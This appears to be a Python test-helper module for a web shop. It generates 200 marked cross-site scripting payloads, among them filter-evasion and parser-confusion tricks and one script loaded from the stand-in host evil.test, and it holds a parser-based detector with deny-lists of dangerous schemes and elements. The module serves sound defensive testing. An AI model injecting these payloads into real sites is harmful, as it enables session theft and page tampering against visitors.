"""Cross-site scripting payloads, and a check that a page or an e-mail carries nothing that could run.

PAYLOADS holds 200 payloads: 78 attack vectors (script tags, event handlers on many elements, `javascript:`,
`vbscript:` and `data:` URLs in links, images, frames, forms and SVG, Markdown links and images, CSS
expressions, parser confusions, template injections, encoded forms), each bare and after an attribute or
tag break-out (`">`, `'>`), the first 200 of those. Each carries its own marker (`xss000` ... `xss199`), so a
test can show that the payload reached the page it checks.

`active_content(html)` parses the page as a browser does (Lexbor, through selectolax: comments, CDATA, duplicate
attributes, foreign content and raw-text elements as the HTML standard says) and lists what in it could run a
visitor's script: a <script> that is not one of the shop's own files (but for a JSON-LD data block: a `<script
type="application/ld+json">` whose text is JSON is never run; one a payload cut short is no longer JSON, and is
flagged), an `on*=` attribute, a URL attribute with a `javascript:`, `vbscript:` or `data:` (other than an image)
scheme, an element that loads or embeds other documents (iframe other than the course video hosts, object, embed,
base, meta refresh), or CSS with `expression(` or a script URL. The shop's pages carry none of these by design (the
Content-Security-Policy forbids inline script), so any one found is the payload getting through.
"""

import json
import re

from selectolax.lexbor import LexborHTMLParser, LexborNode

_VECTORS = [
    "<script>alert('{m}')</script>",
    "<ScRiPt>alert('{m}')</sCrIpT>",
    "<script src=//evil.test/{m}.js></script>",
    "<img src=x onerror=alert('{m}')>",
    '<img src="x" onerror="alert(\'{m}\')">',
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<body onload=alert('{m}')>",
    '<iframe src="javascript:alert(\'{m}\')"></iframe>',
    '<iframe srcdoc="<script>alert(\'{m}\')</script>"></iframe>',
    '<a href="javascript:alert(\'{m}\')">click</a>',
    '<a href="JaVaScRiPt:alert(\'{m}\')">click</a>',
    '<a href="&#106;avascript:alert(\'{m}\')">click</a>',
    '<a href="java&#x09;script:alert(\'{m}\')">click</a>',
    '<a href=" javascript:alert(\'{m}\')">click</a>',
    "[click {m}](javascript:alert('{m}'))",
    "[click {m}](JAVASCRIPT:alert('{m}'))",
    "![img {m}](javascript:alert('{m}'))",
    "![x {m}](x\" onerror=\"alert('{m}'))",
    "<details open ontoggle=alert('{m}')>",
    "<input autofocus onfocus=alert('{m}')>",
    "<select autofocus onfocus=alert('{m}')>",
    "<textarea autofocus onfocus=alert('{m}')>",
    "<video><source onerror=alert('{m}')></video>",
    "<audio src=x onerror=alert('{m}')>",
    '<object data="javascript:alert(\'{m}\')">',
    '<embed src="javascript:alert(\'{m}\')">',
    '<form action="javascript:alert(\'{m}\')"><button>go</button></form>',
    '<button formaction="javascript:alert(\'{m}\')">go</button>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    "<div style=\"background:url(javascript:alert('{m}'))\">",
    "<div style=\"width:expression(alert('{m}'))\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
    '<base href="javascript:alert(\'{m}\')//">',
    '<link rel=stylesheet href="javascript:alert(\'{m}\')">',
    "<marquee onstart=alert('{m}')>",
    "<isindex action=javascript:alert('{m}') type=image>",
    "\"><script>alert('{m}')</script>",
    "'><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "</textarea><script>alert('{m}')</script>",
    "</script><script>alert('{m}')</script>",
    "{{{{constructor.constructor('alert(\"{m}\")')()}}}}",
    "${{alert('{m}')}}",
    "<img src=x:alert('{m}') onerror=eval(src)>",
    '<svg><a xlink:href="javascript:alert(\'{m}\')"><text x=20 y=20>click</text></a></svg>',
    "<svg><animate onbegin=alert('{m}') attributeName=x dur=1s>",
    '<svg><set attributeName=href to="javascript:alert(\'{m}\')"/></svg>',
    "<x onclick=alert('{m}')>click",
    "javascript:alert('{m}')",
    "data:text/html,<script>alert('{m}')</script>",
    '<a href="data:text/html,<script>alert(\'{m}\')</script>">click</a>',
    "<img src=\"x` `<script>alert('{m}')</script>\"` `>",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "<<script>alert('{m}');//<</script>",
    "<img \"\"\"><script>alert('{m}')</script>\">",
    "<IMG SRC=JaVaScRiPt:alert('{m}')>",
    "<img src=`javascript:alert('{m}')`>",
    '<a href="vbscript:msgbox(\'{m}\')">click</a>',
    "%3Cscript%3Ealert('{m}')%3C/script%3E",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "<style>@import 'javascript:alert(\"{m}\")';</style>",
    "<table background=\"javascript:alert('{m}')\">",
    "<a href=\"#\" onmouseover=\"alert('{m}')\">hover</a>",
    "<p onpointerenter=alert('{m}')>",
    "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",
    "<!--<img src=\"--><img src=x onerror=alert('{m}')//\">",
    "<![CDATA[<script>alert('{m}')</script>]]>",
    "<svg/onload=alert('{m}')>",
    "<!--><img src=x onerror=alert('{m}')>-->",
    "<!---><img src=x onerror=alert('{m}')>",
    "<![CDATA[><img src=x onerror=alert('{m}')>]]>",
    '<a href="javascript:alert(\'{m}\')" href="/ok">click</a>',
    "</textarea><img src=x onerror=alert('{m}')>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert('{m}')>\"></noembed>",
    "<noframes><img title=\"</noframes><img src=x onerror=alert('{m}')>\"></noframes>",
    '<svg><animate attributeName=href values="x;javascript:alert(\'{m}\')"/></svg>',
]
_BREAKOUTS = ["", '">', "'>"]


def _payloads(count: int = 200) -> list[str]:
    made = []
    for breakout in _BREAKOUTS:
        for vector in _VECTORS:
            if len(made) == count:
                return made
            made.append(breakout + vector.format(m=marker(len(made))))
    return made


def marker(n: int) -> str:
    return f"xss{n:03d}"


PAYLOADS = _payloads()
assert len(PAYLOADS) == len(set(PAYLOADS)) == 200

_OWN_SCRIPT = re.compile(r"(/static/|/_stripe/|https://js\.stripe\.com/)")
_VIDEO_FRAMES = re.compile(r"https://(www\.youtube-nocookie\.com|www\.youtube\.com|player\.vimeo\.com)/")
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset",
                   "cite", "ping", "lowsrc", "dynsrc", "to", "from", "values", "codebase", "longdesc", "manifest"}
_BAD_SCHEME = re.compile(r"^(javascript|vbscript|livescript|mocha):|^data:(?!image/(png|jpeg|gif|webp);)")
_NEVER = {"object", "embed", "applet", "base", "frame", "frameset", "isindex"}


def _url(value: str) -> str:
    """A URL as a browser reads its scheme: control characters and spaces dropped, lower case."""
    return re.sub(r"[\x00-\x20]", "", value).lower()


def _urls(attribute: str, value: str) -> list[str]:
    """The URLs an attribute holds: SVG animation `values` is a ;-list, `srcset` a ,-list, others one URL."""
    return re.split(r";", value) if attribute == "values" else value.split(",") if attribute == "srcset" else [value]


def _is_json_ld(node: LexborNode, attributes: dict[str, str]) -> bool:
    """A `<script type="application/ld+json">` (no src) whose text is JSON: a data block, which browsers never run."""
    if attributes.get("type", "").strip().lower() != "application/ld+json" or "src" in attributes:
        return False
    try:
        json.loads(node.text(deep=True) or "")
    except ValueError:
        return False
    return True


def active_content(html: str) -> list[str]:
    """Everything in `html` that could run a script or load a document a visitor did not ask for."""
    found, tree = [], LexborHTMLParser(html)
    for node in tree.root.traverse(include_text=False):
        name = node.tag.lower()
        if name.startswith("-"):  # a comment
            continue
        attributes = {key: value or "" for key, value in node.attributes.items()}
        markup = (node.html or "")[:120]
        if name == "script" and not _OWN_SCRIPT.match(attributes.get("src", "")) and not _is_json_ld(node, attributes):
            found.append(f"script: {markup}")
        if name in _NEVER:
            found.append(f"<{name}>: {markup}")
        if name == "iframe" and not _VIDEO_FRAMES.match(attributes.get("src", "")):
            found.append(f"iframe: {markup}")
        if name == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            found.append(f"meta refresh: {markup}")
        for attribute, value in attributes.items():
            lowered = attribute.lower()
            if lowered.startswith("on"):
                found.append(f"handler {attribute}= on <{name}>: {value[:80]}")
            elif lowered in _URL_ATTRIBUTES and any(_BAD_SCHEME.match(_url(part)) for part in _urls(lowered, value)):
                found.append(f"{attribute}= on <{name}>: {value[:80]}")
            elif lowered == "srcdoc":
                found.append(f"srcdoc on <{name}>")
            elif lowered == "style" and re.search(r"expression\s*\(|javascript:|url\s*\(", value, re.I):
                found.append(f"style on <{name}>: {value[:80]}")
        if name == "style":
            contents = node.inner_html or ""
            if re.search(r"expression\s*\(|javascript:|@import|<", contents, re.I):
                found.append(f"<style>: {contents[:80]}")  # "<" in it: markup a browser may parse (in MathML)
        if name == "math":  # the shop never writes MathML: foreign content, where <style> holds live markup
            found.append("<math>")
        if name in ("noscript", "noembed", "noframes", "xmp", "plaintext"):  # the shop writes none of them:
            found.append(f"<{name}>: {markup[:80]}")  # raw text where a browser and a parser may disagree
    return found


def markers_in(html: str) -> set[str]:
    """The payload markers anywhere in `html`'s source (text, escaped markup or an attribute's value)."""
    return set(re.findall(r"xss\d{3}", html))
